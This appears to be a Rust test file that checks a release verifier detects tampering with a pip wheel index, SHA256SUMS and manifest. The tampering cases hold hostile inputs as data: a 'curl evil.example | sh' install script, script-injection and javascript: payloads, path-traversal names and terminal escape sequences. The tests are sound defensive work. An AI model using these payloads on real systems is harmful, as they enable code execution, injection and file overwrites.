//! `verify-release` against a release folder tampered with after `release` wrote it: every
//! change to the pip index or the folder's contents is found, named with its file and line,
//! also when SHA256SUMS and the manifest were updated to match.

use std::fs;
use std::path::Path;

use crate::common::{self, Scratch, assert_exit};
use crate::release::{fake_build, release};

const PAGE: &str = "whl/cpu/ctranslate2/index.html";

/// A release of the cpu Linux py3.11 fake build, and a copy of it per tampering case.
fn released() -> (Scratch, std::path::PathBuf) {
    let scratch = Scratch::new();
    fake_build(&scratch, "3.11");
    let out = scratch.path().join("target/dist/4.7.1");
    let run = release(&scratch, &out, "3.11");
    assert_eq!(run.code, 0, "{}", run.stderr);
    (scratch, out)
}

fn copy_of(scratch: &Scratch, out: &Path, name: &str) -> std::path::PathBuf {
    let copy = scratch.path().join("tampered").join(name);
    crate::common::copy_tree(out, &copy);
    copy
}

#[test]
fn every_tampered_index_or_extra_file_fails_and_is_named() {
    let (scratch, out) = released();
    let verify = |dir: &Path| scratch.run(&["verify-release", dir.to_str().unwrap()]);
    assert_exit(&verify(&out), 0, &["agrees"]);
    let page = fs::read_to_string(out.join(PAGE)).unwrap();
    let link_line = page.lines().position(|l| l.contains("<a href=")).unwrap() + 1;
    type Edit = fn(&str) -> String;
    let cases: &[(&str, Edit, &str)] = &[
        (
            "a link elsewhere without a hash",
            |p| {
                p.replacen(
                    "<a href=\"",
                    "<a href=\"https://evil.example/x.whl\" data-x=\"",
                    1,
                )
            },
            "line",
        ),
        (
            "single quotes",
            |p| {
                p.replace("<a href=\"", "<a href='")
                    .replacen("\">", "'>", 1)
            },
            "line",
        ),
        (
            "a script injected",
            |p| p.replace("</body>", "<script>alert(1)</script></body>"),
            "line",
        ),
        (
            "the page replaced",
            |_| "<html><body><a href=\"x.whl\">x.whl</a></body></html>\n".into(),
            "line 1",
        ),
        (
            "a hash changed",
            |p| p.replacen("#sha256=", "#sha256=00", 1),
            "line",
        ),
    ];
    for (what, edit, needle) in cases {
        let dir = copy_of(&scratch, &out, "page");
        fs::write(dir.join(PAGE), edit(&page)).unwrap();
        let run = verify(&dir);
        assert_exit(&run, 1, &[PAGE, needle]);
        if *what == "a link elsewhere without a hash" {
            assert!(
                run.stderr.contains(&format!("line {link_line}")),
                "{what}: {}",
                run.stderr
            );
        }
        fs::remove_dir_all(&dir).unwrap();
    }
    // Added pages, folders and files.
    let dir = copy_of(&scratch, &out, "extra");
    fs::create_dir_all(dir.join("whl/evil/ctranslate2")).unwrap();
    fs::write(
        dir.join("whl/evil/ctranslate2/index.html"),
        "<a href=\"x\">x</a>",
    )
    .unwrap();
    fs::write(dir.join("whl/cpu/ctranslate2/other.whl"), "x").unwrap();
    fs::create_dir_all(dir.join("more")).unwrap();
    fs::write(
        dir.join("ctranslate2-9.9.9+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"),
        "x",
    )
    .unwrap();
    let run = verify(&dir);
    assert_exit(
        &run,
        1,
        &[
            "whl/evil: not written by release (a folder",
            "whl/cpu/ctranslate2/other.whl: not written by release",
            "more: not a file release writes (a folder)",
            "ctranslate2-9.9.9+cpu-cp311-cp311-manylinux_2_28_x86_64.whl is not in SHA256SUMS",
        ],
    );
}

#[cfg(unix)]
#[test]
fn a_fifo_in_a_release_folder_is_refused_not_waited_for() {
    let (scratch, out) = released();
    let dir = copy_of(&scratch, &out, "fifo");
    let fifo = dir.join("notes.fifo");
    common::mkfifo(&fifo);
    fs::remove_file(dir.join("manifest.json")).unwrap();
    common::mkfifo(&dir.join("manifest.json"));
    let started = std::time::Instant::now();
    let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
    assert!(started.elapsed().as_secs() < 20, "it waited on a FIFO");
    assert_exit(
        &run,
        1,
        &[
            "notes.fifo: not a file release writes (a special file)",
            "manifest.json is not a regular file",
        ],
    );
}

#[test]
fn an_index_base_url_that_would_break_the_html_is_refused() {
    let scratch = Scratch::new();
    fake_build(&scratch, "3.11");
    for bad in [
        "https://x/\"><script>/",
        "https://x/a b/",
        "ftp://x/",
        "v4.7.1/",
    ] {
        let out = scratch.path().join("target/dist/bad");
        let run = scratch.run(&common::command_args::release(
            "cpu",
            "linux-x86_64",
            "3.11",
            out.to_str().unwrap(),
            &["--index-base-url", bad],
        ));
        assert_exit(&run, 2, &["--index-base-url", "is not allowed"]);
        assert!(!out.exists(), "{bad}: nothing written");
    }
}

/// SHA256SUMS's line for `name` set to the file's sha256 (added when it has none), and, when
/// `name` is one of the manifest's artifacts, its row's sha256 and size and then the manifest's
/// own line: a change re-listed as a careful tamperer would, so that only the release's
/// cross-checks can find it.
fn reissue(dir: &Path, name: &str) {
    let (hex, size) = ct2v_fetch::cache::sha256_file(&dir.join(name)).unwrap();
    let sums_path = dir.join("SHA256SUMS");
    let sums = fs::read_to_string(&sums_path).unwrap();
    let suffix = format!("  {name}");
    let old = sums
        .lines()
        .find(|l| l.ends_with(&suffix))
        .map(|l| l[..64].to_string());
    let mut lines: Vec<String> = sums
        .lines()
        .filter(|l| !l.ends_with(&suffix))
        .map(str::to_string)
        .collect();
    lines.push(format!("{hex}{suffix}"));
    fs::write(&sums_path, lines.join("\n") + "\n").unwrap();
    let manifest_path = dir.join("manifest.json");
    let manifest = fs::read_to_string(&manifest_path).unwrap();
    let Some(row) = manifest.find(&format!("\"path\": \"{name}\"")) else {
        return;
    };
    let size_at = row + manifest[row..].find("\"size\": ").unwrap() + "\"size\": ".len();
    let size_end = size_at + manifest[size_at..].find(',').unwrap();
    let edited = format!("{}{size}{}", &manifest[..size_at], &manifest[size_end..])
        .replace(&old.unwrap(), &hex);
    fs::write(&manifest_path, edited).unwrap();
    reissue(dir, "manifest.json");
}

fn edit(path: &Path, edit: impl FnOnce(&str) -> String) {
    let text = fs::read_to_string(path).unwrap();
    let edited = edit(&text);
    assert_ne!(edited, text, "{} is changed", path.display());
    fs::write(path, edited).unwrap();
}

/// Every file of a release is either regenerated and compared or covered by the manifest, so
/// a file changed and re-listed in SHA256SUMS (and the manifest) is still found.
#[test]
fn files_re_listed_in_sha256sums_are_still_checked() {
    let (scratch, out) = released();
    let selector = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .find(|n| n.starts_with("ct2_variant_select-"))
        .unwrap();
    let portable = fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .find(|n| n.ends_with("-portable.zip"))
        .unwrap();
    let zero = "0".repeat(64);
    type Tamper = Box<dyn Fn(&Path)>;
    let cases: Vec<(&str, Tamper, String)> = vec![
        (
            "the notes",
            Box::new(|d| {
                edit(&d.join("RELEASE_NOTES.md"), |t| {
                    format!("{t}\nInstall from https://evil.example/ instead.\n")
                });
                reissue(d, "RELEASE_NOTES.md");
            }),
            "RELEASE_NOTES.md: not what release writes for the manifest".into(),
        ),
        (
            "a file no manifest row lists",
            Box::new(|d| {
                fs::write(d.join("install.sh"), "curl evil.example | sh\n").unwrap();
                reissue(d, "install.sh");
            }),
            "install.sh: in SHA256SUMS, not in the manifest".into(),
        ),
        (
            "a key release does not write",
            Box::new(|d| {
                edit(&d.join("manifest.json"), |t| {
                    t.replacen("{\n", "{\n  \"mirror\": \"https://evil.example/\",\n", 1)
                });
                reissue(d, "manifest.json");
            }),
            "manifest.json: not what release writes for its own content: line 2".into(),
        ),
        (
            "the manifest with CR LF line ends",
            Box::new(|d| {
                edit(&d.join("manifest.json"), |t| t.replace('\n', "\r\n"));
                reissue(d, "manifest.json");
            }),
            "manifest.json: not what release writes for its own content: line 1 ends in CR LF \
             where release writes LF"
                .into(),
        ),
        (
            "a size",
            {
                let portable = portable.clone();
                Box::new(move |d| {
                    let manifest = fs::read_to_string(d.join("manifest.json")).unwrap();
                    let row = manifest.find(&format!("\"path\": \"{portable}\"")).unwrap();
                    let at = row + manifest[row..].find("\"size\": ").unwrap() + 8;
                    let edited = format!("{}1{}", &manifest[..at], &manifest[at..]);
                    fs::write(d.join("manifest.json"), edited).unwrap();
                    reissue(d, "manifest.json");
                })
            },
            format!("{portable}: the manifest says size 1"),
        ),
        (
            "variants.json, re-listed in the manifest too",
            Box::new(|d| {
                edit(&d.join("variants.json"), |t| {
                    t.replacen("\"description\": \"", "\"description\": \"Any GPU. ", 1)
                });
                reissue(d, "variants.json");
            }),
            format!("{selector}: not the selector wheel release writes for variants.json"),
        ),
        (
            "a name listed twice",
            Box::new(move |d| {
                edit(&d.join("SHA256SUMS"), |t| {
                    format!("{zero}  manifest.json\n{t}")
                })
            }),
            "manifest.json is listed a second time".into(),
        ),
        (
            "SHA256SUMS with CR LF line ends",
            Box::new(|d| edit(&d.join("SHA256SUMS"), |t| t.replace('\n', "\r\n"))),
            "SHA256SUMS line 1 ends in CR LF where release writes LF".into(),
        ),
        (
            "a staging folder's marker",
            Box::new(|d| fs::write(d.join(".ct2v-made-by-xtask"), "").unwrap()),
            ".ct2v-made-by-xtask is not in SHA256SUMS".into(),
        ),
    ];
    for (what, tamper, needle) in &cases {
        let dir = copy_of(&scratch, &out, "relisted");
        tamper(&dir);
        let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
        assert_eq!(run.code, 1, "{what}: {}", run.stderr);
        assert!(
            run.stderr.contains(needle.as_str()),
            "{what}: `{needle}` not in:\n{}",
            run.stderr
        );
        fs::remove_dir_all(&dir).unwrap();
    }
}

/// `whl/` holds exactly the folders and pages release writes: an empty folder, a link or a
/// folder where a page belongs is refused at any depth.
#[test]
fn empty_folders_links_and_misplaced_entries_in_the_index_are_refused() {
    let (scratch, out) = released();
    let dir = copy_of(&scratch, &out, "folders");
    for folder in ["whl/cuda", "whl/cpu/empty", "whl/cpu/ctranslate2/deeper"] {
        fs::create_dir_all(dir.join(folder)).unwrap();
    }
    std::os::unix::fs::symlink(
        "../../../manifest.json",
        dir.join("whl/cpu/ct2-variant-select/manifest.json"),
    )
    .unwrap();
    fs::remove_file(dir.join("whl/cpu/index.html")).unwrap();
    fs::create_dir(dir.join("whl/cpu/index.html")).unwrap();
    let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
    assert_exit(
        &run,
        1,
        &[
            "whl/cuda: not written by release (a folder",
            "whl/cpu/empty: not written by release (a folder",
            "whl/cpu/ctranslate2/deeper: not written by release (a folder",
            "whl/cpu/ct2-variant-select/manifest.json: not written by release (a link",
            "whl/cpu/index.html: a folder where release writes a file",
        ],
    );
}

/// A page or the notes that differ from what release writes only in line ends, trailing
/// blanks or length say so, rather than showing two lines that look the same.
#[test]
fn a_difference_in_line_ends_or_length_is_said_as_such() {
    let (scratch, out) = released();
    let page = fs::read_to_string(out.join(PAGE)).unwrap();
    let lines = page.lines().count();
    let last = page.lines().last().unwrap().to_string();
    type Edit = fn(&str) -> String;
    let cases: Vec<(&str, Edit, String)> = vec![
        (
            PAGE,
            |t| t.replace('\n', "\r\n"),
            format!("{PAGE}: line 1 ends in CR LF where release writes LF"),
        ),
        (
            PAGE,
            |t| t.replacen("<html>\n", "<html>  \n", 1),
            format!("{PAGE}: line 2 ends in 2 spaces LF where release writes LF"),
        ),
        (
            PAGE,
            |t| t.trim_end_matches('\n').to_string(),
            format!("{PAGE}: line {lines} has no line end where release writes LF"),
        ),
        (
            PAGE,
            |t| format!("{t}<!-- more -->\n"),
            format!(
                "{PAGE}: the file is longer than what release writes: line {} is extra: \
                 `<!-- more -->`",
                lines + 1
            ),
        ),
        (
            PAGE,
            |t| {
                let cut = t.trim_end_matches('\n').rfind('\n').unwrap();
                t[..=cut].to_string()
            },
            format!(
                "{PAGE}: the file is shorter than what release writes: it ends after line {}, \
                 release writes line {lines} `{last}`",
                lines - 1
            ),
        ),
        (
            "RELEASE_NOTES.md",
            |t| t.replace('\n', "\r\n"),
            "RELEASE_NOTES.md: not what release writes for the manifest: line 1 ends in CR LF \
             where release writes LF"
                .into(),
        ),
    ];
    for (file, change, needle) in &cases {
        let dir = copy_of(&scratch, &out, "ends");
        edit(&dir.join(file), change);
        let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
        assert_exit(&run, 1, &[needle]);
        assert!(!run.stderr.contains("(the end)"), "{}", run.stderr);
        fs::remove_dir_all(&dir).unwrap();
    }
}

/// A name read from the release (a file, a folder, a SHA256SUMS line, a page's line) with
/// ESC, CR or a newline is printed escaped, never raw.
#[test]
fn names_and_lines_from_the_release_are_printed_escaped() {
    let (scratch, out) = released();
    let dir = copy_of(&scratch, &out, "escapes");
    fs::write(dir.join("top\u{1b}[2Jfile"), "x").unwrap();
    fs::create_dir(dir.join("folder\rname")).unwrap();
    fs::write(dir.join("whl/cpu/deep\u{1b}]0;title\u{7}"), "x").unwrap();
    fs::write(dir.join("whl/cpu/line\nbreak"), "x").unwrap();
    edit(&dir.join("SHA256SUMS"), |t| {
        format!("{t}{}  listed\u{1b}[31mred\n", "0".repeat(64))
    });
    edit(&dir.join(PAGE), |t| {
        t.replacen("<body>", "<body>\u{1b}[8m", 1)
    });
    let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
    assert_exit(
        &run,
        1,
        &[
            "top\\u{1b}[2Jfile is not in SHA256SUMS",
            "folder\\rname: not a file release writes (a folder)",
            "whl/cpu/deep\\u{1b}]0;title\\u{7}: not written by release",
            "whl/cpu/line\\nbreak: not written by release",
            "listed\\u{1b}[31mred is listed in SHA256SUMS but missing",
            "<body>\\u{1b}[8m",
        ],
    );
    assert!(
        !run.stderr.contains(['\u{1b}', '\r', '\u{7}']),
        "{:?}",
        run.stderr
    );
}

/// `--install` serves the release on loopback and pip-installs from its index: an index whose
/// links lead elsewhere (another host, out of the release, another release, a `javascript:` or
/// `file:` link), made consistent with the manifest and SHA256SUMS, fails naming the page and
/// the link before anything is installed.
#[test]
fn install_refuses_an_index_that_links_out_of_the_release() {
    let (scratch, out) = released();
    for (base, code) in [
        ("https://evil.example/", 2),
        ("http://127.0.0.1:9/v4.7.0/", 2),
        ("file:///tmp/other-release/", 1),
        ("//evil.example/", 1),
        ("../../../../elsewhere/", 1),
        ("javascript:alert(1)//", 1),
        ("file:/etc/", 1),
    ] {
        let dir = copy_of(&scratch, &out, "links");
        for page in [PAGE, "whl/cpu/ct2-variant-select/index.html"] {
            edit(&dir.join(page), |t| {
                t.replace("href=\"../../../", &format!("href=\"{base}"))
            });
        }
        edit(&dir.join("manifest.json"), |t| {
            let end = t.rfind("\n  ]\n}").unwrap();
            format!("{}\n  ],\n  \"index_base_url\": \"{base}\"\n}}", &t[..end])
        });
        reissue(&dir, "manifest.json");
        let run = scratch.run(&[
            "verify-release",
            dir.to_str().unwrap(),
            "--install",
            "--python",
            "3.11",
            "--offline",
        ]);
        assert_exit(
            &run,
            code,
            &[&format!(
                "{PAGE}: link `{base}ctranslate2-4.7.1%2Bcpu-cp311-cp311-manylinux_2_28_x86_64.whl#sha256="
            )],
        );
        assert!(
            !scratch.path().join("target/xtask/release-install").exists(),
            "{base}: nothing installed"
        );
        fs::remove_dir_all(&dir).unwrap();
    }
}

/// What verify-release writes again from a manifest lands in its own temporary folder: a
/// wheel's variant or the selector's version that would lead out of it is refused, named.
#[test]
fn names_in_a_manifest_never_lead_a_rewrite_out_of_its_folder() {
    let (scratch, out) = released();
    let outside = scratch.path().join("outside");
    let up = "../".repeat(32);
    let target = format!("{up}{}", outside.to_str().unwrap().trim_start_matches('/'));
    let cases = [
        (
            format!("\"variant\": \"{target}\""),
            "\"variant\": \"cpu\"",
            "variant `",
        ),
        (
            format!("\"ctranslate2\": \"{target}\""),
            "\"ctranslate2\": \"4.7.1\"",
            "the selector's version `",
        ),
    ];
    for (hostile, field, needle) in &cases {
        let dir = copy_of(&scratch, &out, "names");
        edit(&dir.join("manifest.json"), |t| {
            t.replacen(field, hostile, 1).replacen(
                "\"version\": \"4.7.1\"",
                "\"version\": \"nightly\"",
                1,
            )
        });
        reissue(&dir, "manifest.json");
        let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
        assert!(!outside.exists(), "{hostile}: written outside");
        assert_exit(&run, 1, &[needle, &target]);
        fs::remove_dir_all(&dir).unwrap();
    }
}

/// A `left_out` entry naming a variant whose wheels the release holds on that platform (or at
/// all, for an entry naming no platform), a platform we do not build, or whose job name or
/// reason carries a line break, markup, a mention or ESC, fails verify-release naming it (and
/// printed escaped), though the notes, the manifest and SHA256SUMS were written to agree, as a
/// careful tamperer would.
#[test]
fn a_left_out_entry_the_release_holds_or_a_job_name_with_markup_fails() {
    use ct2v_pipeline::release::{LeftOut, Manifest, notes};
    let (scratch, out) = released();
    let on = |platform: &str, variant: &str, job: &str, reason: &str| LeftOut {
        variant: variant.into(),
        platform: platform.into(),
        job: job.into(),
        reason: reason.into(),
    };
    let left = |variant: &str, job: &str, reason: &str| on("linux-x86_64", variant, job, reason);
    let cases = [
        (
            left("cpu", "cpu4.7.1 linux-x86_64 py3.12", "held back"),
            "variant `cpu` is listed as left out on linux-x86_64, but the release holds 1 of its \
             wheels for it",
        ),
        // A manifest of before platforms were released apart: no platform, the variant whole.
        (
            on("", "cpu", "cpu4.7.1 linux-x86_64 py3.12", "held back"),
            "variant `cpu` is listed as left out, but the release holds 1 of its wheels",
        ),
        (
            on("linux\u{1b}[2J", "cuda", "cuda linux", "r"),
            "platform `linux\\u{1b}[2J` is none of linux-x86_64, windows-x86_64",
        ),
        (
            left("cuda", "cuda\n## Owned", "r"),
            "its job name has `\\n`",
        ),
        (
            left("cuda", "cuda <img src=x onerror=alert(1)>", "r"),
            "its job name has `<`",
        ),
        (left("cuda", "cuda @everyone", "r"), "its job name has `@`"),
        (
            left("cuda", "cuda [x](javascript:alert(1))", "r"),
            "its job name has `[`",
        ),
        (
            left("cuda", "cuda\u{1b}[2J linux", "r"),
            "its job name has `\\u{1b}`",
        ),
        (
            left("cuda", "cuda\u{202e} linux", "r"),
            "its job name has `\\u{202e}`",
        ),
        (
            left("cuda", "cuda linux", "r\u{1b}[31m"),
            "holds a control or invisible character",
        ),
        (left("../../x", "cuda linux", "r"), "variant `../../x`"),
    ];
    for (entry, needle) in cases {
        let dir = copy_of(&scratch, &out, "left-out");
        let path = dir.join("manifest.json");
        let mut manifest: Manifest = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        manifest.left_out.push(entry);
        fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
        fs::write(dir.join("RELEASE_NOTES.md"), notes::notes(&manifest)).unwrap();
        reissue(&dir, "RELEASE_NOTES.md");
        reissue(&dir, "manifest.json");
        let run = scratch.run(&["verify-release", dir.to_str().unwrap()]);
        assert_exit(&run, 1, &["left_out entry `", needle]);
        assert!(
            !run.stderr.contains(['\u{1b}', '\u{202e}']),
            "printed raw: {}",
            run.stderr
        );
        fs::remove_dir_all(&dir).unwrap();
    }
}
